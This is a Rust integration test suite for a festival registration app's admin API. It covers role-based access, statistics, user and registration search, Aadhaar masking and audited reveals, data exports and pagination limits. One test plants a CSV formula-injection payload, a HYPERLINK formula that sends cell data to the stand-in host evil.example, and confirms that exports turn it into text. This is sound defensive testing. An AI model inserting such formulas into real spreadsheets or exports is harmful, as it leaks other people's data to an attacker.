//! The admin API: the role matrix over every admin route, real figures, users, registrations with search
//! and paging, exports that parse, event settings, offline payments, the audit log.

use crate::common;

use std::io::Cursor;

use axum::http::{Method, StatusCode};
use common::TestApp;
use common::forms::team;
use fest_app::roles::Role;
use serde_json::{Value, json};

async fn call(app: &TestApp, method: Method, path: &str, token: Option<&str>, body: Value) -> common::TestResponse {
    app.json(method, path, token, body).await
}

/// Registers and pays `event` for the user of `token` (sandbox).
async fn paid_registration(app: &TestApp, token: &str, event: &str, category: Option<&str>) {
    paid_team(app, token, event, team(event, category)).await;
}

/// Registers and pays `form` for `event` for the user of `token` (sandbox).
async fn paid_team(app: &TestApp, token: &str, event: &str, form: Value) {
    let res = call(app, Method::POST, &format!("/api/v1/events/{event}/create-order"), Some(token), form).await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    let order = res.json()["order"]["id"].as_str().unwrap().to_owned();
    let paid =
        call(app, Method::POST, &format!("/api/v1/payments/sandbox/{order}/pay"), Some(token), json!({})).await.json();
    let res = call(app, Method::POST, &format!("/api/v1/events/{event}/verify-payment"), Some(token), paid).await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
}

#[tokio::test]
async fn the_role_matrix_over_every_admin_route() {
    let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
    let target = app.user_with_role("target", Role::User).await;
    let target_id = app.get_as("/api/v1/user/me", &target).await.json()["user"]["_id"].as_str().unwrap().to_owned();
    let tokens = [
        ("anonymous", None),
        ("user", Some(app.user_with_role("plain", Role::User).await)),
        ("ca", Some(app.user_with_role("ambassador", Role::Ca).await)),
        ("moderator", Some(app.user_with_role("moderator", Role::Moderator).await)),
        ("admin", Some(app.user_with_role("admin", Role::Admin).await)),
    ];
    // (method, path, body, admin only)
    let routes: Vec<(Method, String, Value, bool)> = vec![
        (Method::GET, "/api/v1/user/all-users".into(), json!({}), false),
        (Method::GET, "/api/v1/ca/all-applications".into(), json!({}), false),
        (Method::GET, "/api/v1/events/all-registrations".into(), json!({}), false),
        (Method::GET, "/api/v1/events/football/registrations".into(), json!({}), false),
        (Method::GET, "/api/v1/admin/stats".into(), json!({}), false),
        (Method::PUT, format!("/api/v1/user/{target_id}/role"), json!({"role": "user"}), true),
        // Moderators may download too (SPEC 2.14, 6), with Aadhaar masked.
        (Method::GET, "/api/v1/events/football/export?format=csv".into(), json!({}), false),
        (Method::PUT, "/api/v1/admin/events/football/settings".into(), json!({"registrationOpen": true}), true),
        (Method::POST, "/api/v1/admin/registrations/nothing/mark-paid".into(), json!({}), true),
        (Method::GET, "/api/v1/admin/audit-log".into(), json!({}), true),
        (Method::POST, "/api/v1/admin/registrations/nothing/reveal-aadhaar".into(), json!({}), true),
    ];
    for (who, token) in &tokens {
        for (method, path, body, admin_only) in &routes {
            let res = call(&app, method.clone(), path, token.as_deref(), body.clone()).await;
            let allowed = match *who {
                "anonymous" => {
                    assert_eq!(res.status, StatusCode::UNAUTHORIZED, "{who} {method} {path}");
                    continue;
                }
                "user" | "ca" => false,
                "moderator" => !admin_only,
                _ => true,
            };
            if allowed {
                assert!(
                    res.status != StatusCode::UNAUTHORIZED && res.status != StatusCode::FORBIDDEN,
                    "{who} {method} {path}: {}",
                    res.status
                );
                assert!(
                    res.status.is_success() || res.status == StatusCode::NOT_FOUND,
                    "{who} {method} {path}: {}",
                    res.text()
                );
            } else {
                assert_eq!(res.status, StatusCode::FORBIDDEN, "{who} {method} {path}");
            }
        }
    }
}

#[tokio::test]
async fn stats_are_the_real_counts() {
    let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
    let admin = app.user_with_role("chief", Role::Admin).await;
    app.user_with_role("mod1", Role::Moderator).await;
    app.user_with_role("ca1", Role::Ca).await;
    let buyer = app.user_with_role("buyer", Role::User).await;
    app.user_with_role("idle", Role::User).await;
    paid_registration(&app, &buyer, "football", Some("Women")).await;
    paid_registration(&app, &buyer, "chess", None).await;
    call(&app, Method::POST, "/api/v1/events/squash/create-order", Some(&buyer), team("squash", Some("Men"))).await;

    let s = app.get_as("/api/v1/admin/stats", &admin).await.json();
    assert_eq!(s["users"], json!({"total": 5, "user": 2, "ca": 1, "moderator": 1, "admin": 1}));
    assert_eq!(s["ca"], json!({"pending": 0, "accepted": 0, "rejected": 0}));
    let find = |e: &str| s["events"].as_array().unwrap().iter().find(|x| x["event"] == e).unwrap().clone();
    assert_eq!(find("football")["paid"], 1);
    assert_eq!(find("football")["amountPaise"], 300000);
    assert_eq!(find("squash")["pending"], 1);
    assert_eq!(find("squash")["amountPaise"], 0);
    assert_eq!(s["totals"], json!({"paid": 2, "amountPaise": 324900}));
}

#[tokio::test]
async fn users_search_filter_page_and_role_changes() {
    let app = TestApp::spawn().await;
    let admin = app.user_with_role("root", Role::Admin).await;
    for name in ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot"] {
        app.user_with_role(name, Role::User).await;
    }
    let page = app.get_as("/api/v1/user/all-users?page=2&limit=5", &admin).await.json();
    assert_eq!(page["pagination"], json!({"page": 2, "limit": 5, "total": 7}));
    assert_eq!(page["users"].as_array().unwrap().len(), 2);
    let found = app.get_as("/api/v1/user/all-users?search=CHARLIE%40example", &admin).await.json();
    assert_eq!(found["users"].as_array().unwrap().len(), 1);
    assert_eq!(found["users"][0]["authProvider"], "email");
    let charlie = found["users"][0]["_id"].as_str().unwrap().to_owned();
    let admins = app.get_as("/api/v1/user/all-users?role=admin", &admin).await.json();
    // Without page or limit the list is whole (SPEC 7), so its length is the count.
    assert_eq!(admins["users"].as_array().unwrap().len(), 1);
    // Wildcards in a search are literal.
    let none = app.get_as("/api/v1/user/all-users?search=%25", &admin).await.json();
    assert_eq!(none["users"], json!([]));

    let res =
        call(&app, Method::PUT, &format!("/api/v1/user/{charlie}/role"), Some(&admin), json!({"role": "moderator"}))
            .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    assert_eq!(res.json()["user"]["role"], "moderator");
    let me = app.get_as("/api/v1/user/me", &admin).await.json()["user"]["_id"].as_str().unwrap().to_owned();
    let res = call(&app, Method::PUT, &format!("/api/v1/user/{me}/role"), Some(&admin), json!({"role": "user"})).await;
    assert_eq!(res.status, StatusCode::BAD_REQUEST);
    assert_eq!(res.json()["message"], "You cannot change your own role.");
    let res =
        call(&app, Method::PUT, &format!("/api/v1/user/{charlie}/role"), Some(&admin), json!({"role": "king"})).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);

    let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
    let entry = &log["entries"][0];
    assert_eq!(entry["action"], "user.role");
    assert_eq!(entry["target"], charlie.as_str());
    assert_eq!(entry["actor"]["username"], "root");
    assert_eq!(entry["details"]["to"], "moderator");
}

#[tokio::test]
async fn event_registrations_search_filter_and_mask_aadhaar_for_everyone() {
    let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
    let admin = app.user_with_role("head", Role::Admin).await;
    let moderator = app.user_with_role("helper", Role::Moderator).await;
    // Each team with people of its own (a person plays for one team per event).
    for (n, name) in ["teamone", "teamtwo", "teamthree"].into_iter().enumerate() {
        let t = app.user_with_role(name, Role::User).await;
        paid_team(&app, &t, "kabaddi", common::forms::other_people(team("kabaddi", Some("Men")), n as u64)).await;
    }
    let pending = app.user_with_role("teamfour", Role::User).await;
    let form = common::forms::other_people(team("kabaddi", Some("Men")), 3);
    call(&app, Method::POST, "/api/v1/events/kabaddi/create-order", Some(&pending), form).await;

    // Without a status the list holds the applicants: the order never paid is left out.
    let applicants = app.get_as("/api/v1/events/kabaddi/registrations?limit=2", &admin).await.json();
    assert_eq!(applicants["pagination"], json!({"page": 1, "limit": 2, "total": 3}));
    let all = app.get_as("/api/v1/events/kabaddi/registrations?status=all&limit=2", &admin).await.json();
    assert_eq!(all["pagination"], json!({"page": 1, "limit": 2, "total": 4}));
    assert_eq!(all["event"], "kabaddi");
    // Without page or limit the list is whole (SPEC 7), so its length is the count.
    let paid = app.get_as("/api/v1/events/kabaddi/registrations?status=paid", &admin).await.json();
    assert_eq!(paid["registrations"].as_array().map(Vec::len), Some(3));
    // A page counts what its filters match: by status (counted without the registrants), by e-mail (with them).
    let paid_page = app.get_as("/api/v1/events/kabaddi/registrations?status=paid&limit=1", &admin).await.json();
    assert_eq!(paid_page["pagination"], json!({"page": 1, "limit": 1, "total": 3}));
    let pending_page = app.get_as("/api/v1/events/kabaddi/registrations?status=pending&limit=5", &admin).await.json();
    assert_eq!(pending_page["pagination"]["total"], 1, "{pending_page}");
    let found = app.get_as("/api/v1/events/kabaddi/registrations?search=TEAMT&limit=1", &admin).await.json();
    assert_eq!(found["pagination"], json!({"page": 1, "limit": 1, "total": 2}), "teamtwo and teamthree");
    let two = app.get_as("/api/v1/events/kabaddi/registrations?search=teamtwo", &admin).await.json();
    assert_eq!(two["registrations"].as_array().map(Vec::len), Some(1));
    let record = &two["registrations"][0];
    assert_eq!(record["userId"]["username"], "teamtwo");
    assert_eq!(record["paymentStatus"], "paid");
    assert_eq!(record["team"]["captain"][0]["aadharId"], "XXXXXXXX0002", "list views mask Aadhaar for admins too");
    let masked = app.get_as("/api/v1/events/kabaddi/registrations?search=teamtwo", &moderator).await.json();
    assert_eq!(masked["registrations"][0]["team"]["captain"][0]["aadharId"], "XXXXXXXX0002");
    let all_admin = app.get_as("/api/v1/events/all-registrations", &admin).await;
    assert!(!all_admin.text().contains("123400000002"), "{}", all_admin.text());

    let grouped = app.get_as("/api/v1/events/all-registrations", &moderator).await.json();
    assert_eq!(grouped["registrations"]["kabaddi"].as_array().unwrap().len(), 3, "the applicants");
    let grouped = app.get_as("/api/v1/events/all-registrations?status=all", &moderator).await.json();
    assert_eq!(grouped["registrations"]["kabaddi"].as_array().unwrap().len(), 4);
    let capped = app.get_as("/api/v1/events/all-registrations?limit=2", &moderator).await.json();
    assert_eq!(capped["registrations"]["kabaddi"].as_array().unwrap().len(), 2, "the newest two");
}

#[tokio::test]
async fn an_admin_reveals_one_registrations_aadhaar_numbers_and_it_is_audited() {
    let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
    let admin = app.user_with_role("keeper", Role::Admin).await;
    let moderator = app.user_with_role("viewer", Role::Moderator).await;
    let player = app.user_with_role("owner", Role::User).await;
    paid_registration(&app, &player, "chess", None).await;

    let grouped = app.get_as("/api/v1/events/all-registrations", &admin).await.json();
    let record = grouped["registrations"]["chess"][0].clone();
    let text = record.to_string();
    assert!(text.contains("XXXXXXXX0002") && !text.contains("123400000002"), "masked for admins: {text}");
    let id = record["_id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/admin/registrations/{id}/reveal-aadhaar");

    assert_eq!(call(&app, Method::POST, &path, None, json!({})).await.status, StatusCode::UNAUTHORIZED);
    let res = call(&app, Method::POST, &path, Some(&moderator), json!({})).await;
    assert_eq!(res.status, StatusCode::FORBIDDEN);
    assert_eq!(res.json()["success"], false);
    let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
    assert!(log["entries"].as_array().unwrap().iter().all(|e| e["action"] != "registration.reveal_aadhaar"));

    let res = call(&app, Method::POST, &path, Some(&admin), json!({})).await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    let body = res.json();
    assert_eq!(body["success"], true);
    assert_eq!(body["registrationId"], id.as_str());
    let numbers = body["numbers"].as_array().unwrap();
    assert_eq!(numbers.len(), 5, "the captain and four players: {body}");
    let captain = numbers.iter().find(|n| n["path"] == "team.captain[0]").unwrap_or_else(|| panic!("{body}"));
    assert_eq!(captain["aadharId"], "123400000002");
    let shown = &record["team"]["captain"][0];
    assert_eq!(captain["fullname"], shown["fullname"], "the path names the person of the record");

    let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
    let entry = &log["entries"][0];
    assert_eq!(entry["action"], "registration.reveal_aadhaar");
    assert_eq!(entry["target"], id.as_str());
    assert_eq!(entry["actor"]["username"], "keeper");
    assert_eq!(entry["details"]["numbers"], 5);

    let missing = call(&app, Method::POST, "/api/v1/admin/registrations/nope/reveal-aadhaar", Some(&admin), json!({}));
    assert_eq!(missing.await.status, StatusCode::NOT_FOUND);
    let doc = app.get("/api/v1/openapi.json").await.json();
    assert!(doc["paths"]["/api/v1/admin/registrations/{id}/reveal-aadhaar"]["post"].is_object());
    assert!(doc["components"]["schemas"]["RevealAadhaarResponse"].is_object(), "a typed response");
}

#[tokio::test]
async fn exports_parse_as_csv_xlsx_and_json_with_a_row_per_member() {
    let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
    let admin = app.user_with_role("exporter", Role::Admin).await;
    let captain = app.user_with_role("captain", Role::User).await;
    paid_registration(&app, &captain, "chess", None).await; // 1 captain + 4 players
    let members = 5;

    let csv = app.get_as("/api/v1/events/chess/export?format=csv", &admin).await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.header("content-disposition").unwrap().contains("chess-registrations.csv"));
    let mut reader = csv::Reader::from_reader(csv.body.as_slice());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header[0], "Registration ID");
    assert!(header.contains(&"Member Aadhaar".to_owned()));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), members);
    let aadhaar_col = header.iter().position(|h| h == "Member Aadhaar").unwrap();
    assert_eq!(&rows[0][aadhaar_col], "123400000002", "exports carry Aadhaar in full");
    assert_eq!(&rows[0][header.iter().position(|h| h == "Amount (INR)").unwrap()], "249.00");

    let xlsx = app.get_as("/api/v1/events/chess/export?format=xlsx", &admin).await;
    assert_eq!(xlsx.status, StatusCode::OK);
    use calamine::{Reader, Xlsx};
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx.body.clone())).unwrap();
    let sheet = book.worksheet_range("Chess").unwrap();
    assert_eq!(sheet.height(), members + 1);
    assert_eq!(sheet.get((0, 0)).unwrap().to_string(), "Registration ID");

    let json = app.get_as("/api/v1/events/chess/export?format=json", &admin).await.json();
    assert_eq!(json["registrations"].as_array().unwrap().len(), 1);

    assert_eq!(app.get_as("/api/v1/events/chess/export?format=pdf", &admin).await.status, StatusCode::BAD_REQUEST);
    let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
    assert_eq!(log["entries"].as_array().unwrap().iter().filter(|e| e["action"] == "registrations.export").count(), 3);
}

/// Moderators may view and download registrations (SPEC 2.14, 6); full Aadhaar numbers stay admin-only.
#[tokio::test]
async fn a_moderators_download_has_aadhaar_masked_and_is_audited() {
    let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
    let admin = app.user_with_role("auditor", Role::Admin).await;
    let moderator = app.user_with_role("downloader", Role::Moderator).await;
    let captain = app.user_with_role("captain", Role::User).await;
    paid_registration(&app, &captain, "chess", None).await;

    let csv = app.get_as("/api/v1/events/chess/export?format=csv", &moderator).await;
    assert_eq!(csv.status, StatusCode::OK, "{}", csv.text());
    let mut reader = csv::Reader::from_reader(csv.body.as_slice());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let aadhaar_col = header.iter().position(|h| h == "Member Aadhaar").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 5);
    for row in &rows {
        assert!(row[aadhaar_col].starts_with("XXXXXXXX") && row[aadhaar_col].len() == 12, "{:?}", &row[aadhaar_col]);
    }
    assert!(!csv.text().contains("123400000002"), "no full number in a moderator's file");
    let json = app.get_as("/api/v1/events/chess/export?format=json", &moderator).await;
    assert!(json.text().contains("XXXXXXXX0002") && !json.text().contains("123400000002"), "{}", json.text());
    let xlsx = app.get_as("/api/v1/events/chess/export?format=xlsx", &moderator).await;
    assert_eq!(xlsx.status, StatusCode::OK);

    // The admin's file has the numbers in full; every download is in the audit log with what it showed.
    let full = app.get_as("/api/v1/events/chess/export?format=csv", &admin).await;
    assert!(full.text().contains("123400000002"));
    let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
    let exports: Vec<&Value> =
        log["entries"].as_array().unwrap().iter().filter(|e| e["action"] == "registrations.export").collect();
    assert_eq!(exports.len(), 4);
    assert_eq!(exports.iter().filter(|e| e["details"]["aadhaar"] == "masked").count(), 3);
    assert_eq!(exports.iter().filter(|e| e["details"]["aadhaar"] == "full").count(), 1);
}

#[tokio::test]
async fn exported_cells_that_look_like_formulas_are_text_not_formulas() {
    let app = TestApp::spawn_with(&[("sandbox_webhooks", json!(false))]).await;
    let admin = app.user_with_role("auditor", Role::Admin).await;
    let player = app.user_with_role("mallory", Role::User).await;
    let evil = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
    let mut form = team("chess", None);
    form["collegeName"] = json!(evil);
    form["collegeAddress"] = json!("  @SUM(1+1)");
    let res = call(&app, Method::POST, "/api/v1/events/chess/create-order", Some(&player), form).await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());

    let csv = app.get_as("/api/v1/events/chess/export?format=csv", &admin).await;
    let mut reader = csv::Reader::from_reader(csv.body.as_slice());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let college = header.iter().position(|h| h == "College").unwrap();
    let address = header.iter().position(|h| h == "College address").unwrap();
    assert_eq!(&rows[0][college], format!("'{evil}"), "a formula is prefixed with a quote");
    assert_eq!(&rows[0][address], "'@SUM(1+1)", "leading spaces do not hide a formula");
    assert!(rows.iter().all(|r| !r[header.iter().position(|h| h == "Member name").unwrap()].starts_with('\'')));

    let xlsx = app.get_as("/api/v1/events/chess/export?format=xlsx", &admin).await;
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx.body.clone())).unwrap();
    let formulas = book.worksheet_formula("Chess").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell of the workbook is a formula");
    let sheet = book.worksheet_range("Chess").unwrap();
    assert_eq!(sheet.get((1, college)), Some(&Data::String(evil.to_owned())), "stored as a text string");
}

#[tokio::test]
async fn event_settings_change_what_the_public_list_says_at_once() {
    let app = TestApp::spawn().await;
    let admin = app.user_with_role("opener", Role::Admin).await;
    let res =
        call(&app, Method::PUT, "/api/v1/admin/events/bgmi/settings", Some(&admin), json!({"registrationOpen": true}))
            .await;
    // SPEC 7's answer, with the event's other settings beside it (none set here).
    assert_eq!(
        res.json(),
        json!({"success": true, "event": "bgmi", "isRegistrationOpen": true, "registrationOpen": true,
               "capacity": null, "categoryCapacity": null, "deadline": null, "changeDeadline": null,
               "cancelDeadline": null, "placesLeft": null, "categoryPlacesLeft": null})
    );
    let events = app.get("/api/v1/events").await.json();
    let bgmi = events["events"].as_array().unwrap().iter().find(|e| e["id"] == "bgmi").unwrap().clone();
    assert_eq!(bgmi["isRegistrationOpen"], true);
    let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
    assert_eq!(log["entries"][0]["action"], "event.settings");
}

#[tokio::test]
async fn offline_registrations_are_marked_paid_by_an_admin_once() {
    let app = TestApp::spawn_with(&[("payments", json!("offline"))]).await;
    let admin = app.user_with_role("cashier", Role::Admin).await;
    let player = app.user_with_role("walkin", Role::User).await;
    let res = call(&app, Method::POST, "/api/v1/events/chess", Some(&player), team("chess", None)).await;
    let id = res.json()["registrationId"].as_str().unwrap().to_owned();
    let res =
        call(&app, Method::POST, &format!("/api/v1/admin/registrations/{id}/mark-paid"), Some(&admin), json!({})).await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    assert_eq!(res.json()["registration"]["paymentStatus"], "paid");
    let again =
        call(&app, Method::POST, &format!("/api/v1/admin/registrations/{id}/mark-paid"), Some(&admin), json!({})).await;
    assert_eq!(again.status, StatusCode::CONFLICT);
    let stats = app.get_as("/api/v1/admin/stats", &admin).await.json();
    assert_eq!(stats["totals"]["amountPaise"], 24900);
    let log = app.get_as("/api/v1/admin/audit-log", &admin).await.json();
    assert_eq!(log["entries"][0]["action"], "registration.mark_paid");
}

#[tokio::test]
async fn absurd_page_numbers_are_answered_not_crashed_on() {
    let app = TestApp::spawn().await;
    let admin = app.user_with_role("pager", Role::Admin).await;
    for path in [
        "/api/v1/user/all-users?page=9223372036854775808",
        "/api/v1/user/all-users?page=18446744073709551615&limit=100",
        "/api/v1/events/cricket/registrations?page=9223372036854775808",
        "/api/v1/admin/audit-log?page=18446744073709551615",
    ] {
        let res = app.get_as(path, &admin).await;
        assert_eq!(res.status, StatusCode::OK, "{path}: {}", res.text());
        assert_eq!(res.json()["pagination"]["page"], 1_000_000, "{path}");
    }
    let res = app.get_as("/api/v1/user/all-users?page=99999999999999999999999", &admin).await;
    assert_eq!(res.status, StatusCode::BAD_REQUEST, "a number too big for u64 is a 400");
    assert_eq!(res.json()["success"], false, "in the API's error shape");
    assert!(res.json()["message"].as_str().unwrap().contains("page"), "{}", res.text());
}

/// SPEC 7's list of accounts is whole unless the client asks for a page: 1,050 accounts (more than two
/// batches of the stream) arrive complete, newest first, each once; search and role still apply.
#[tokio::test]
async fn the_list_of_accounts_is_whole_without_paging_and_streamed_in_order() {
    use fest_app::entities::user;
    use sea_orm::{EntityTrait, Set};
    let app = TestApp::spawn().await;
    let admin = app.user_with_role("wholeadmin", Role::Admin).await;
    let now = chrono::Utc::now();
    let seeded = 1050;
    let rows: Vec<user::ActiveModel> = (0..seeded)
        .map(|i| user::ActiveModel {
            id: Set(format!("seed-{i:05}")),
            username: Set(format!("seeded{i:05}")),
            username_key: Set(format!("seeded{i:05}")),
            fullname: Set(format!("Seeded {i}")),
            email: Set(format!("seeded{i:05}@example.com")),
            password_hash: Set(None),
            google_sub: Set(None),
            role: Set(if i % 10 == 0 { Role::Ca } else { Role::User }),
            is_email_verified: Set(true),
            is_iitp_stud: Set(false),
            college_name: Set(None),
            por: Set(None),
            address: Set(None),
            college_address: Set(None),
            college_year: Set(None),
            phone_number: Set(None),
            language: Set(None),
            // Groups of three share a creation time: the order falls back on the id.
            created_at: Set(now - chrono::Duration::seconds(10_000 + i64::from(i / 3))),
            updated_at: Set(now),
        })
        .collect();
    for chunk in rows.chunks(300) {
        user::Entity::insert_many(chunk.to_vec()).exec(app.ctx.db()).await.unwrap();
    }
    let all = app.get_as("/api/v1/user/all-users", &admin).await;
    assert_eq!(all.status, StatusCode::OK);
    let all = all.json();
    assert!(all.get("pagination").is_none(), "a whole list has no pagination");
    let names: Vec<&str> = all["users"].as_array().unwrap().iter().map(|u| u["username"].as_str().unwrap()).collect();
    assert_eq!(names.len(), seeded as usize + 1, "every account, the admin included");
    assert_eq!(names[0], "wholeadmin", "newest first");
    let seeded_names: Vec<&str> = names[1..].to_vec();
    let expected: Vec<String> = (0..seeded).map(|i| format!("seeded{i:05}")).collect();
    assert_eq!(seeded_names, expected.iter().map(String::as_str).collect::<Vec<_>>(), "in order, each once");
    // Filters apply to the whole list too.
    let cas = app.get_as("/api/v1/user/all-users?role=ca", &admin).await.json();
    assert_eq!(cas["users"].as_array().unwrap().len(), 105);
    let found = app.get_as("/api/v1/user/all-users?search=seeded0104", &admin).await.json();
    assert_eq!(found["users"].as_array().unwrap().len(), 10);
    // A page is a page, with its pagination.
    let page = app.get_as("/api/v1/user/all-users?page=3&limit=7", &admin).await.json();
    assert_eq!(page["users"].as_array().unwrap().len(), 7);
    assert_eq!(page["pagination"], json!({"page": 3, "limit": 7, "total": seeded + 1}));
}
